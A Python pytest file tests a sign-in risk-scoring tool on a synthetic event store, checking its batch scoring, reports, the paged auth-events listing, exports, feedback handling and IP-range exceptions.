"""Batch scoring, the AdminListUserAuthEvents listing, export and the run report, on a real synthetic store."""

import csv
import json
import re
import shutil
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import risk.store
from cli import app
from ingest.errors import RiskgateError
from tests.storedb import q

runner = CliRunner()

COMPARE = """SELECT event_id, score, risk_level, risk_decision, outcome, event_action, mfa_challenge, blocked,
                    override_block, ip_exception, reasons, model_version, config_version, thresholds_version
             FROM assessments ORDER BY event_id"""


def rg(*args, db=None):
    res = runner.invoke(app, [*map(str, args)] + (["--db", str(db)] if db else []))
    assert res.exit_code == 0, res.output
    return res


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A store with a synthetic population ingested, users and labels loaded, and a model trained."""
    d = tmp_path_factory.mktemp("trained")
    db = d / "base.duckdb"
    rg("synth", "--users", 80, "--days", 30, "--seed", 3, "--out", d / "ev.jsonl")
    rg("ingest", d / "ev.jsonl", db=db)
    rg("users", "load", d / "ev.users.json", db=db)
    rg("labels", "load", d / "ev.labels.csv", db=db)
    rg("train", db=db)
    return db


@pytest.fixture
def store(trained, tmp_path):
    db = tmp_path / "s.duckdb"
    shutil.copy(trained, db)
    return db



def test_every_event_gets_one_assessment_and_a_second_run_adds_none(store):
    res = rg("score", "--json", db=store)
    out = json.loads(res.stdout)
    n = q(store, "SELECT count(*) FROM events")[0][0]
    assert out["events_scored"] == n > 1000
    assert set(out["by_level"]) <= {"no risk", "Low", "Medium", "High"} and sum(out["by_level"].values()) == n
    assert out["by_level"]["no risk"] > 0 and sum(out["by_decision"].values()) == n  # report's words, not "None"
    assert q(store, "SELECT count(*), count(DISTINCT event_id) FROM assessments") == [(n, n)]
    again = json.loads(rg("score", "--json", db=store).stdout)
    assert again["events_scored"] == 0
    # no IP range is configured: every event is checked and matches none
    assert q(store, "SELECT DISTINCT ip_exception FROM assessments") == [("none",)]
    # levels follow the thresholds, reasons name registered signals, versions are recorded
    from risk.signals import SIGNALS

    rows = q(store, "SELECT score, risk_level, reasons, model_version, thresholds_version FROM assessments")
    codes = {s.code for s in SIGNALS.values()}
    for score, level, reasons, mv, tv in rows:
        assert 0.0 <= score <= 1.0 and mv == 1 and tv == 0
        if level is None:
            continue
        assert level == ("High" if score >= 0.8 else "Medium" if score >= 0.5 else "Low")
        assert reasons and {r["code"] for r in reasons} <= codes


def test_the_summary_line_counts_in_words_that_agree_with_the_numbers(store):
    t = q(store, "SELECT creation_date FROM events GROUP BY creation_date HAVING count(*) = 1 LIMIT 1")[0][0]
    one = rg("score", "--since", t.isoformat(), "--until", (t + timedelta(microseconds=1)).isoformat(), db=store)
    assert one.stdout.startswith("scored 1 event in 1 chunk (model v1, thresholds v0)\n")
    head, tail = rg("score", "--chunk-rows", "1000", db=store).stdout.split(" in ", 1)
    assert head == f"scored {q(store, 'SELECT count(*) FROM events')[0][0] - 1:,} events"
    chunks = int(tail.split()[0])
    assert chunks > 1 and tail.startswith(f"{chunks} chunks (model v1")


def test_the_report_and_export_lines_agree_with_their_counts(store, tmp_path):
    rg("score", db=store)
    t = q(store, "SELECT creation_date FROM events GROUP BY creation_date HAVING count(*) = 1 LIMIT 1")[0][0]
    one = ["--since", t.isoformat(), "--until", (t + timedelta(microseconds=1)).isoformat()]
    assert ": 1 event scored, 0 not yet" in rg("report", *one, db=store).stdout
    out = tmp_path / "one.csv"
    assert " ".join(rg("export", "--out", out, *one, db=store).stdout.split()) == f"wrote 1 row to {out}"
    n = q(store, "SELECT count(*) FROM events")[0][0]
    assert rg("export", "--out", tmp_path / "all.csv", db=store).stdout.startswith(f"wrote {n:,} rows to ")


def test_an_export_says_how_many_events_of_its_period_are_not_assessed_yet(store, tmp_path):
    """The export joins events with their assessments: events not yet scored were left out in silence."""
    cut = q(store, "SELECT creation_date FROM events ORDER BY creation_date LIMIT 1 OFFSET 1000")[0][0]
    rg("score", "--until", cut.isoformat(), db=store)
    n = q(store, "SELECT count(*) FROM events")[0][0]
    res = rg("export", "--out", tmp_path / "x.csv", db=store)
    assert res.stdout.startswith("wrote 1,000 rows to ")
    assert " ".join(res.stderr.split()) == (f"warning: {n - 1000:,} events in the period not yet assessed, not in "
                                            "the export: run `riskgate score` first")
    res = rg("export", "--out", tmp_path / "y.csv", "--until", cut.isoformat(), db=store)
    assert res.stdout.startswith("wrote 1,000 rows to ") and res.stderr == ""


def test_a_time_finer_than_a_microsecond_is_read_as_ingest_reads_an_events_time(store, tmp_path):
    """``--since`` / ``--until`` with more than six digits of a second are read to the microsecond, their finer
    digits dropped, as ingest stores an event's time: a bound copied from an event's time (``T.1234567``, stored at
    ``T.123456``) is that event's instant, so ``--since`` holds it and ``--until`` does not. (Rounded up, the
    bound had left such an event out of ``--since T.1234567`` and in ``--until T.1234567``.)"""
    rg("score", db=store)
    t = q(store, "SELECT creation_date FROM events GROUP BY creation_date HAVING count(*) = 1 LIMIT 1")[0][0]
    base = t.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")
    after = q(store, "SELECT count(*) FROM events WHERE creation_date > ?", [t])[0][0]
    for since, expected in ((base + "7Z", after + 1), (base + "0Z", after + 1), (base + "000Z", after + 1)):
        out = tmp_path / "x.csv"
        assert " ".join(rg("export", "--out", out, "--since", since, db=store).stdout.split()) == \
            f"wrote {expected:,} row{'s' if expected != 1 else ''} to {out}", since
    until = q(store, "SELECT count(*) FROM events WHERE creation_date < ?", [t])[0][0]
    for stamp in (base + "7Z", base + "0Z", base + "Z"):
        out = tmp_path / "y.csv"
        assert " ".join(rg("export", "--out", out, "--until", stamp, db=store).stdout.split()) == \
            f"wrote {until:,} rows to {out}", stamp


def test_the_report_counts_attacks_as_training_and_tuning_do(store, tmp_path):
    """An attack_type of none / legitimate / benign / '' says "no attack" everywhere: the report used to list it
    as an attack type and drop those sign-ins from the legitimate ones."""
    from risk import store as rstore
    from risk.report import assessed_events, pipeline_summary

    rg("score", db=store)
    with rstore.connect(store, read_only=True) as con:
        before = pipeline_summary(con)
        legit = [r[0] for r in con.execute(
            "SELECT l.event_id FROM labels l JOIN events e USING (event_id) WHERE l.label = 'is_account_takeover' "
            "AND l.value = 'false' AND e.event_type = 'SignIn' AND e.event_response = 'Pass' "
            "AND l.event_id NOT IN (SELECT event_id FROM labels WHERE label = 'attack_type') "
            "ORDER BY 1 LIMIT 6").fetchall()]
    assert len(legit) == 6
    labels = tmp_path / "none.csv"
    labels.write_text("event_id,label,value,source\n" + "".join(  # any case, blanks around: None is no attack type
        f"{e},attack_type,{v},mine\n" for e, v in zip(legit, ("none", "None", "legitimate", '" LEGITIMATE "',
                                                              "benign", ""))))
    rg("labels", "load", labels, db=store)
    with rstore.connect(store, read_only=True) as con:
        after = pipeline_summary(con)
        types = {r["event_id"]: r["attack_type"] for r in assessed_events(con).to_pylist() if r["event_id"] in legit}
    assert after["attacks_by_type"] == before["attacks_by_type"]
    assert after["legitimate_sign_ins"] == before["legitimate_sign_ins"]
    assert types == dict.fromkeys(legit)


def test_the_report_reads_feedback_as_tuning_does(store):
    """An administrator's feedback outranks the data set's labels in the report too: a legitimate sign-in marked
    Invalid is an attack (of its labelled type, else ``feedback_invalid``) and leaves the legitimate counts, an
    attack marked Valid joins them. The report used to keep both where the labels put them."""
    from risk import store as rstore
    from risk.report import pipeline_summary

    rg("score", db=store)
    with rstore.connect(store, read_only=True) as con:
        before = pipeline_summary(con)
        legit = con.execute(
            "SELECT l.event_id FROM labels l JOIN events e USING (event_id) WHERE l.label = 'is_account_takeover' "
            "AND l.value = 'false' AND e.event_type = 'SignIn' AND e.event_response = 'Pass' "
            "AND l.event_id NOT IN (SELECT event_id FROM labels WHERE label = 'attack_type') "
            "ORDER BY 1 LIMIT 1").fetchall()[0][0]
        attack, kind = con.execute(
            "SELECT l.event_id, l.value FROM labels l JOIN events e USING (event_id) WHERE l.label = 'attack_type' "
            "AND e.event_type = 'SignIn' AND e.event_response = 'Pass' ORDER BY 1 LIMIT 1").fetchall()[0]
    rg("feedback", legit, "invalid", db=store)
    rg("feedback", attack, "valid", db=store)
    with rstore.connect(store, read_only=True) as con:
        after = pipeline_summary(con)
    assert after["legitimate_sign_ins"] == before["legitimate_sign_ins"]  # one out, one in
    types = lambda s: {t: n for t, n, *_ in s["attacks_by_type"]}  # noqa: E731
    expected = types(before)
    expected[kind] -= 1
    expected["feedback_invalid"] = expected.get("feedback_invalid", 0) + 1
    assert types(after) == {t: n for t, n in expected.items() if n}


def test_incremental_runs_equal_one_run_over_everything(store, tmp_path):
    other = tmp_path / "other.duckdb"
    shutil.copy(store, other)
    rg("score", db=store)
    first, last = q(other, "SELECT min(creation_date), max(creation_date) FROM events")[0]
    cut1 = first + (last - first) / 3
    cut2 = first + 2 * (last - first) / 3
    rg("score", "--until", cut1.isoformat(), db=other)
    rg("score", "--until", cut2.isoformat(), "--chunk-rows", "500", db=other)
    rg("score", db=other)
    assert q(other, COMPARE) == q(store, COMPARE)


def test_chunks_that_share_their_history_score_exactly_as_chunks_that_read_it_each(store, tmp_path, monkeypatch):
    """Many small chunks read the history before them again and again; a run computes the parts of it that do
    not depend on the chunk once (risk.features.SharedHistory) and gets the same assessments."""
    import risk.features as features

    built = []
    real = features.SharedHistory

    class Counted(real):
        def __init__(self, con):
            built.append(1)
            super().__init__(con)

    monkeypatch.setattr(features, "SharedHistory", Counted)
    other = tmp_path / "other.duckdb"
    shutil.copy(store, other)
    rg("score", "--chunk-rows", 400, db=store)  # a few chunks, reading enough history before them to share it
    assert built == [1]
    monkeypatch.setattr(features, "SHARE_HISTORY_READS", float("inf"))  # each chunk reads its history itself
    rg("score", "--chunk-rows", 400, db=other)
    assert built == [1]
    assert q(other, COMPARE) == q(store, COMPARE)


def test_attacks_are_caught_and_legitimate_users_rarely_bothered(store):
    rg("score", db=store)
    rep = json.loads(rg("report", "--json", db=store).stdout)
    caught = {t: (n, c) for t, n, c, _b in rep["attacks_by_type"]}
    assert caught["credential_stuffing"][1] >= 0.9 * caught["credential_stuffing"][0]
    assert rep["legitimate_challenged"] + rep["legitimate_blocked"] <= 0.05 * rep["legitimate_sign_ins"]


def test_the_report_of_a_period_counts_only_its_events_and_two_halves_add_up_to_the_whole(store):
    """``riskgate report --since/--until`` summarises the events in [since, until): every count of two
    adjacent periods adds up to the whole store's, and the first half's levels match the store's own rows."""
    rg("score", db=store)
    first, last = q(store, "SELECT min(creation_date), max(creation_date) FROM events")[0]
    cut = (first + (last - first) / 2).isoformat()
    whole = json.loads(rg("report", "--json", db=store).stdout)
    early = json.loads(rg("report", "--json", "--until", cut, db=store).stdout)
    late = json.loads(rg("report", "--json", "--since", cut, db=store).stdout)
    n_early = q(store, "SELECT count(*) FROM events WHERE creation_date < ?", [cut])[0][0]
    assert early["events_scored"] == n_early and late["events_scored"] == whole["events_scored"] - n_early > 0
    assert dict(map(tuple, early["by_level"])) == dict(q(
        store, "SELECT coalesce(risk_level, 'no risk'), count(*) FROM assessments JOIN events USING (event_id) "
               "WHERE creation_date < ? GROUP BY 1", [cut]))

    def counts(rep, key, width):  # {row's key: its counts} of a table of rows (key columns, then counts)
        return {tuple(r[:width]): r[width:] for r in rep[key]}

    for key, width in (("by_level", 1), ("by_decision", 2), ("attacks_by_type", 1)):
        e, la, w = counts(early, key, width), counts(late, key, width), counts(whole, key, width)
        zero = [0] * len(next(iter(w.values())))
        assert {k: [a + b for a, b in zip(e.get(k, zero), la.get(k, zero))] for k in w} == w
        assert set(e) | set(la) == set(w)
    assert whole["attacks_by_type"]
    for key in ("legitimate_sign_ins", "legitimate_challenged", "legitimate_blocked", "legitimate_own_mfa_challenged"):
        assert early[key] + late[key] == whole[key]
    assert whole["legitimate_sign_ins"] > early["legitimate_sign_ins"] > 0
    out = rg("report", "--since", cut, db=store).stdout
    assert f"assessments since {cut}: {late['events_scored']:,} events scored" in out


def test_progress_counts_the_events_to_score_and_each_row_carries_its_runs_id(store):
    """The progress callback gets (scored so far, events to score): only events without an assessment, in
    the requested period; every assessment written carries its run's id and the time it was scored."""
    from risk import score as scoring
    from risk import store as rstore

    first, last = q(store, "SELECT min(creation_date), max(creation_date) FROM events")[0]
    cut = first + (last - first) / 2
    n_before = q(store, "SELECT count(*) FROM events WHERE creation_date < ?", [cut])[0][0]
    n = q(store, "SELECT count(*) FROM events")[0][0]
    con = rstore.connect(store)
    try:
        calls: list[tuple[int, int]] = []
        record = lambda done, total: calls.append((done, total))  # noqa: E731
        first_run = scoring.score_events(con, until=cut, chunk_rows=300, progress=record)
        assert len(calls) == first_run.chunks > 2
        assert {total for _, total in calls} == {n_before}
        assert calls[-1][0] == n_before and [d for d, _ in calls] == sorted(d for d, _ in calls)
        calls.clear()
        second = scoring.score_events(con, chunk_rows=300, progress=record)
        assert {total for _, total in calls} == {n - n_before} and calls[-1][0] == n - n_before
    finally:
        con.close()
    runs = q(store, "SELECT run_id, count(*), count(scored_at) FROM assessments GROUP BY run_id ORDER BY 2")
    assert sorted(runs) == sorted([(first_run.run_id, n_before, n_before), (second.run_id, n - n_before, n - n_before)])


def test_the_report_says_what_to_do_when_nothing_is_scored(store, tmp_path):
    out = rg("report", db=store).stdout
    assert "0 events scored" in out and "nothing to report yet: run `riskgate score`" in out
    assert "events by level" not in out
    empty = rg("report", db=tmp_path / "empty.duckdb").stdout
    assert "nothing to report yet: the store holds no events" in empty
    rg("score", db=store)
    assert "events by level" in rg("report", db=store).stdout


def test_the_cli_chunks_as_the_library_does_by_default():
    """``riskgate score`` chunks as ``score_events`` does when given no chunk size (the CLI keeps the number
    itself so that ``--help`` does not import the scoring code)."""
    import typer

    from risk.score import DEFAULT_CHUNK_ROWS

    score = typer.main.get_command(app).commands["score"]
    (option,) = [p for p in score.params if p.name == "chunk_rows"]
    assert option.default == DEFAULT_CHUNK_ROWS == 250_000


def test_blocked_ip_range_overrides_the_model(store, tmp_path):
    ip = q(store, "SELECT client_ip FROM events WHERE ip_version = 4 ORDER BY event_id LIMIT 1")[0][0]
    doc = {"UserPoolId": q(store, "SELECT any_value(user_pool_id) FROM events")[0][0],
           "RiskExceptionConfiguration": {"BlockedIPRangeList": [f"{ip}/32"]}}
    f = tmp_path / "cfg.json"
    f.write_text(json.dumps(doc))
    rg("config", "set", f, db=store)
    rg("mode", "ENFORCED", db=store)
    rg("score", db=store)
    rows = q(store, """SELECT DISTINCT a.risk_decision, a.risk_level, a.override_block, a.blocked, a.mode
                       FROM assessments a JOIN events e USING (event_id) WHERE e.client_ip = ?""", [ip])
    assert rows == [("Block", None, True, True, "ENFORCED")]


@pytest.mark.parametrize("chunk_rows", [1000, 50])
def test_each_event_gets_what_decide_gives_for_its_own_inputs_across_clients_pools_exceptions_and_mfa(
        store, tmp_path, chunk_rows):
    """A chunk calls decide() once per distinct combination of its inputs, found column by column (by Arrow and
    numpy for a chunk, in Python for a few rows); every event must still get exactly what decide() gives for its
    own level, IP-range exception, credentials check, event type, pool, app client and MFA, with the versions of
    its own configuration and mode. The service's assess_rows gives the same rows."""
    from risk import config as rc
    from risk import levels
    from risk import score as scoring
    from risk.decide import decide, has_mfa_configured
    from risk.exceptions import check_ip
    from risk.features import compute_features

    pool = q(store, "SELECT any_value(user_pool_id) FROM events")[0][0]
    a, b, c = [r[0] for r in q(store, """SELECT client_ip FROM events WHERE ip_version = 4 GROUP BY 1
                                         ORDER BY count(*) DESC, 1 LIMIT 3""")]
    con = risk.store.connect(store)
    try:  # a second app client for a third of the events, no pool id on some, found breaches on others, MFA
        con.execute("UPDATE events SET client_id = 'apptwo' WHERE hash(event_id) % 3 = 0")
        con.execute("UPDATE events SET user_pool_id = NULL WHERE hash(event_id) % 7 = 1")
        con.execute("UPDATE events SET compromised_credentials = (hash(event_id) % 5 = 2)")
        con.execute("UPDATE users SET mfa_settings = ['SOFTWARE_TOKEN_MFA'] WHERE hash(username) % 2 = 0")
    finally:
        con.close()
    docs = {
        "pool.json": {"UserPoolId": pool, "RiskExceptionConfiguration": {"SkippedIPRangeList": [f"{a}/32", f"{b}/32"]},
                      "AccountTakeoverRiskConfiguration": {"Actions": {
                          "LowAction": {"Notify": False, "EventAction": "NO_ACTION"},
                          "MediumAction": {"Notify": True, "EventAction": "MFA_IF_CONFIGURED"},
                          "HighAction": {"Notify": True, "EventAction": "MFA_IF_CONFIGURED"}}}},
        "client.json": {"UserPoolId": pool, "ClientId": "apptwo",
                        "RiskExceptionConfiguration": {"BlockedIPRangeList": [f"{a}/32", f"{c}/32"]},
                        "AccountTakeoverRiskConfiguration": {"Actions": {
                            "LowAction": {"Notify": False, "EventAction": "NO_ACTION"},
                            "MediumAction": {"Notify": True, "EventAction": "MFA_REQUIRED"},
                            "HighAction": {"Notify": True, "EventAction": "BLOCK"}}},
                        "CompromisedCredentialsRiskConfiguration": {"Actions": {"EventAction": "BLOCK"}}},
    }
    for name, doc in docs.items():
        (tmp_path / name).write_text(json.dumps(doc))
        rg("config", "set", tmp_path / name, db=store)
    rg("mode", "ENFORCED", db=store)
    if chunk_rows < 100:  # chunks of a few rows (assessed in Python) for the last 300 events, the rest in big ones
        cut = q(store, "SELECT creation_date FROM events ORDER BY creation_date DESC LIMIT 1 OFFSET 300")[0][0]
        rg("score", "--until", cut.isoformat(), db=store)
    rg("score", "--chunk-rows", chunk_rows, db=store)

    fields = ("risk_level", "risk_decision", "outcome", "event_action", "mode", "enforced", "mfa_challenge", "blocked",
              "override_block", "compromised_credentials_detected", "reset_required", "notification", "would_notify",
              "decision_reasons", "config_version", "mode_version")
    rows = q(store, f"""SELECT e.user_pool_id, e.client_id, e.username, e.event_type, e.event_response, e.client_ip,
                               e.compromised_credentials, a.score, a.ip_exception, {", ".join("a." + f for f in fields)}
                        FROM events e JOIN assessments a USING (event_id) ORDER BY e.event_id""")
    con = risk.store.connect(store, read_only=True)
    try:
        mfa = {u: has_mfa_configured(m, p) for u, m, p in
               con.execute("SELECT username, mfa_settings, preferred_mfa FROM users").fetchall()}
        thresholds, _ = levels.current_thresholds(con)
        resolved = {key: rc.resolve(con, pool, key) for key in (None, "apptwo")}
        mode, mode_version = rc.get_mode(con, pool)
        # the service's path, events as rows (40: codes found in Python; 100: by Arrow): what the chunks stored
        served = []
        for n in (40, 100):
            ids = [r[0] for r in con.execute("SELECT event_id FROM events ORDER BY hash(event_id) LIMIT ?",
                                             [n]).fetchall()]
            feats = compute_features(con, event_ids=ids)
            served.append(scoring.assess_rows(scoring._Context(con), feats.to_pylist(),
                                              scoring.events_to_assess(con, feats).to_pylist()))
    finally:
        con.close()
    stored = {r[0]: r[1:] for r in q(store, f"""SELECT event_id, score, ip_exception, {", ".join(fields)}
                                                FROM assessments""")}
    assert [len(rows) for rows in served] == [40, 100]
    for row in served[0] + served[1]:
        assert (row["score"], row["ip_exception"], *(row[f] for f in fields)) == stored[row["event_id"]]
    text = lambda v: None if v is None else str(v)  # noqa: E731
    seen = set()
    for event_pool, client, user, event_type, response, ip, compromised, score, exception, *stored in rows:
        cfg, version = resolved[client if client == "apptwo" else None]
        expected_exception = str(check_ip(cfg, ip))
        d = decide(risk_level=levels.levels([score], thresholds)[0], exception=expected_exception,
                   compromised=compromised, event_type=event_type, configuration=cfg, mode=mode,
                   user_has_mfa=mfa.get(user, False), event_response=response)
        expected = (text(d.risk_level), text(d.risk_decision), str(d.outcome), text(d.event_action), str(d.mode),
                    d.enforced, d.mfa_challenge, d.blocked, d.override_block, d.compromised_credentials_detected,
                    d.reset_required, text(d.notification), text(d.would_notify), [str(r) for r in d.reasons],
                    version, mode_version)
        assert (exception, *stored) == (expected_exception, *expected), (user, client, ip)
        seen.add((event_pool is None, client, exception, compromised, mfa.get(user, False), d.risk_decision,
                  d.compromised_credentials_detected and d.blocked, d.reset_required))
    # the store gave every kind of input: both clients, events without a pool, each exception, breaches, MFA
    assert {s[0] for s in seen} == {True, False} and {s[1] for s in seen} >= {"apptwo"} and len({s[1] for s in seen}) >= 2
    assert {s[2] for s in seen} == {"none", "skipped", "blocked"}
    assert {s[3] for s in seen} >= {True, False} and {s[4] for s in seen} == {True, False}
    assert {str(s[5]) for s in seen} == {"NoRisk", "AccountTakeover", "Block"}
    assert {(s[6], s[7]) for s in seen} >= {(True, True), (True, False)}  # blocked breaches reset only when passed


def test_events_no_risk_detection_looked_at_carry_no_signals(store, tmp_path):
    """A skipped range gets "no risk detection" and mode OFF "no risk evaluation": their assessments keep the
    model's score (what-if and tuning read it) but no signals explaining a level they do not have."""
    rg("score", db=store)
    ip, n = q(store, """SELECT e.client_ip, count(*) FILTER (WHERE a.risk_level IS NOT NULL) FROM events e
                        JOIN assessments a USING (event_id) WHERE e.client_ip IS NOT NULL
                        GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 1""")[0]
    assert n > 0
    (tmp_path / "c.json").write_text(json.dumps({"RiskExceptionConfiguration": {"SkippedIPRangeList": [
        f"{ip}/{32 if '.' in ip else 128}"]}}))
    rg("config", "set", tmp_path / "c.json", db=store)
    rg("score", "--rescore", db=store)
    assert q(store, """SELECT ip_exception, risk_level IS NOT NULL, len(reasons) > 0, score IS NOT NULL, count(*) > 0
                       FROM assessments GROUP BY ALL ORDER BY ALL""") == [("none", False, False, True, True), ("none", True, True, True, True),
                          ("skipped", False, False, True, True)]
    rg("mode", "OFF", db=store)
    out = json.loads(rg("score", "--rescore", "--json", db=store).stdout)
    assert out["by_decision"] == {"not evaluated": out["events_scored"]} == {"not evaluated": q(store, "SELECT count(*) FROM events")[0][0]}
    # nor a level: "not evaluated", not "no risk", in every count of levels (score, report, the dashboard's)
    assert out["by_level"] == {"not evaluated": out["events_scored"]}
    rep = json.loads(rg("report", "--json", db=store).stdout)
    assert [list(r) for r in rep["by_level"]] == [["not evaluated", out["events_scored"]]], rep["by_level"]
    from risk import insights
    from risk import store as rstore

    with rstore.connect(store) as con:
        levels_seen = insights.overview_metrics(con)["by_level"]
        assert levels_seen[insights.NOT_EVALUATED] == out["events_scored"] and levels_seen[insights.NO_RISK] == 0
        found, total = insights.search_events(con, insights.EventFilters(level=insights.NOT_EVALUATED), limit=5)
        assert total == out["events_scored"] and set(found["level"]) == {insights.NOT_EVALUATED}
        assert insights.search_events(con, insights.EventFilters(level=insights.NO_RISK), limit=5)[1] == 0
        # nor in Cognito's metrics (the dashboard's chart counted every one as NoRisk)
        assert all(insights.metric_series(con, m).empty for m in insights.METRICS)
        # nor on the map of places: a city of mode-OFF events was drawn in "No risk"'s green
        places = insights.locations(con)
        assert len(places) > 0 and set(places["top_level"]) == {insights.NOT_EVALUATED}
    assert q(store, "SELECT count(*) FILTER (WHERE len(reasons) > 0), count(*) FILTER (WHERE score IS NULL) "
                    "FROM assessments") == [(0, 0)]


def test_the_report_never_counts_a_users_own_mfa_as_a_challenge_for_their_risk(store, tmp_path):
    """A user with MFA of their own is challenged at every level, so a level whose action asks for MFA changes
    nothing for them: as ``riskgate tune`` counts it, that challenge is not "for their risk" (the report counted
    it so, and said 167 legitimate sign-ins challenged where tune said 0). The report counts them apart."""
    from risk import levels
    from risk import store as rstore

    with rstore.connect(store) as con:  # nearly every event gets a level (Low): the legitimate ones included
        levels.set_thresholds(con, levels.Thresholds(1e-9, 0.5, 0.9))
    (tmp_path / "quiet.json").write_text(json.dumps({"AccountTakeoverRiskConfiguration": {"Actions": {
        lvl: {"Notify": False, "EventAction": "NO_ACTION"} for lvl in ("LowAction", "MediumAction", "HighAction")}}}))
    rg("config", "set", tmp_path / "quiet.json", db=store)
    rg("score", db=store)
    rep = json.loads(rg("report", "--json", db=store).stdout)
    assert rep["legitimate_challenged"] == 0 and rep["legitimate_blocked"] == 0
    leveled = q(store, """SELECT count(*) FROM assessments WHERE outcome = 'MfaChallenge' AND risk_level IS NOT NULL""")
    assert leveled[0][0] > 0  # challenged events with a level exist: all of them the users' own MFA
    (tmp_path / "mfa.json").write_text(json.dumps({"AccountTakeoverRiskConfiguration": {"Actions": {
        lvl: {"Notify": False, "EventAction": "MFA_IF_CONFIGURED"} for lvl in ("LowAction", "MediumAction", "HighAction")}}}))
    rg("config", "set", tmp_path / "mfa.json", db=store)
    rg("score", "--rescore", db=store)
    again = json.loads(rg("report", "--json", db=store).stdout)
    assert rep["legitimate_own_mfa_at_mfa_level"] == 0  # NO_ACTION everywhere
    from risk.feedback import LABELS_IN_FORCE_SQL

    at_level = q(store, f"""SELECT count(*) FROM assessments a JOIN events e USING (event_id)
                            WHERE a.outcome = 'MfaChallenge' AND a.event_action = 'MFA_IF_CONFIGURED'
                              AND e.event_type = 'SignIn' AND e.event_response = 'Pass'
                              AND event_id IN (SELECT event_id FROM ({LABELS_IN_FORCE_SQL}) WHERE y = 0)""")[0][0]
    assert at_level > 0 and again["legitimate_own_mfa_at_mfa_level"] == at_level
    # the same challenges, all of them the users' own MFA: none for their risk, as tune counts them
    assert again["legitimate_challenged"] == 0
    assert again["legitimate_own_mfa_challenged"] == rep["legitimate_own_mfa_challenged"] > 0
    text = rg("report", db=store).stdout
    assert f"{at_level:,} of them at a level whose action asks for MFA" in " ".join(text.split())


def test_events_listing_pages_newest_first_with_risk_and_feedback(store):
    rg("score", db=store)
    user, n = q(store, "SELECT username, count(*) FROM events GROUP BY 1 ORDER BY 2 DESC LIMIT 1")[0]
    from risk import store as rstore
    from risk.feedback import set_feedback

    newest = q(store, "SELECT event_id FROM events WHERE username = ? ORDER BY creation_date DESC LIMIT 1", [user])[0][0]
    con = rstore.connect(store)
    set_feedback(con, newest, "Invalid", "Admin")
    con.close()
    seen, token = [], None
    while True:
        args = ["events", user, "--max-results", "7"] + (["--next-token", token] if token else [])
        page = json.loads(rg(*args, db=store).stdout)
        assert len(page["AuthEvents"]) <= 7
        seen += page["AuthEvents"]
        token = page.get("NextToken")
        if not token:
            break
    assert len(seen) == n
    dates = [e["CreationDate"] for e in seen]
    assert dates == sorted(dates, reverse=True)
    assert seen[0]["EventId"] == newest
    assert seen[0]["EventFeedback"]["FeedbackValue"] == "Invalid" and seen[0]["EventFeedback"]["Provider"] == "Admin"
    assert all("RiskDecision" in e["EventRisk"] for e in seen)
    full = json.loads(rg("events", user, "--max-results", "0", db=store).stdout)
    assert len(full["AuthEvents"]) == min(n, 60)
    # Timezone as Cognito gives it: the UTC offset at the event's moment in the address's zone
    zones = dict(q(store, "SELECT event_id, time_zone FROM events WHERE username = ?", [user]))
    for e in seen:
        tz = e.get("EventContextData", {}).get("Timezone")
        if zones[e["EventId"]] is None:
            assert tz is None
            continue
        local = datetime.fromisoformat(e["CreationDate"]).astimezone(ZoneInfo(zones[e["EventId"]]))
        assert re.fullmatch(r"[+-]\d\d:\d\d", tz) and tz == local.isoformat()[-6:], (tz, local)


def test_the_timezone_is_the_offset_at_the_moment_of_the_event():
    from risk.auth_events import utc_offset

    july, january = datetime(2026, 7, 1, 12, tzinfo=timezone.utc), datetime(2026, 1, 1, 12, tzinfo=timezone.utc)
    assert [utc_offset("Europe/London", july), utc_offset("Europe/London", january)] == ["+01:00", "+00:00"]
    assert utc_offset("America/Los_Angeles", july) == "-07:00"  # the developer guide's example
    assert utc_offset("Asia/Kolkata", july) == "+05:30" and utc_offset("America/St_Johns", january) == "-03:30"
    assert utc_offset(None, july) is None and utc_offset("Not/AZone", july) is None


def test_events_listing_errors(store):
    res = runner.invoke(app, ["events", "nobody-at-all", "--db", str(store)])
    assert res.exit_code == 2 and "user 'nobody-at-all' not found" in res.stderr
    user = q(store, "SELECT any_value(username) FROM events")[0][0]
    res = runner.invoke(app, ["events", user, "--max-results", "61", "--db", str(store)])
    assert res.exit_code == 2 and "MaxResults must be between 0 and 60, got 61" in res.stderr
    res = runner.invoke(app, ["events", user, "--next-token", "garbage!", "--db", str(store)])
    assert res.exit_code == 2 and "NextToken" in res.stderr


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_export_writes_events_with_their_assessments(store, tmp_path, fmt):
    rg("score", db=store)
    n = q(store, "SELECT count(*) FROM assessments")[0][0]
    out = tmp_path / f"export.{fmt}"
    rg("export", "--out", out, "--format", fmt, db=store)
    if fmt == "csv":
        with open(out, newline="") as fh:
            rows = list(csv.DictReader(fh))
        reasons = [json.loads(r["reasons"]) for r in rows]
    elif fmt == "parquet":
        rows = pq.read_table(out).to_pylist()
        reasons = [r["reasons"] for r in rows]
    else:
        rows = [json.loads(line) for line in out.read_text().splitlines()]
        reasons = [r["reasons"] for r in rows]
    assert len(rows) == n
    for col in ("event_id", "username", "time", "ip_address", "country", "asn", "device_name", "score", "level",
                "decision", "action", "reasons", "model_version", "config_version"):
        assert col in rows[0]
    assert any(r for r in reasons)
    stored = dict(q(store, "SELECT event_id, creation_date FROM events"))
    scored = dict(q(store, "SELECT event_id, scored_at FROM assessments"))
    for r in rows:  # ISO 8601 in UTC in text (as `riskgate events` writes), typed in Parquet: the stored instants
        when, at = (r["time"], r["scored_at"]) if fmt == "parquet" else (
            datetime.fromisoformat(r["time"]), datetime.fromisoformat(r["scored_at"]))
        if fmt != "parquet":
            assert r["time"][10] == "T" and r["time"].endswith("+00:00"), r["time"]
        assert (when, at) == (stored[r["event_id"]], scored[r["event_id"]])
    first, last = q(store, "SELECT min(creation_date), max(creation_date) FROM events")[0]
    mid = first + (last - first) / 2
    out2 = tmp_path / f"half.{fmt}"
    rg("export", "--out", out2, "--format", fmt, "--since", mid.isoformat(), db=store)
    want = q(store, "SELECT count(*) FROM events WHERE creation_date >= ?", [mid])[0][0]
    got = len(pq.read_table(out2)) if fmt == "parquet" else sum(1 for _ in open(out2)) - (1 if fmt == "csv" else 0)
    assert got == want


def test_an_export_to_a_missing_folder_or_onto_a_folder_is_refused_with_its_path_and_writes_nothing(store, tmp_path):
    rg("score", db=store)
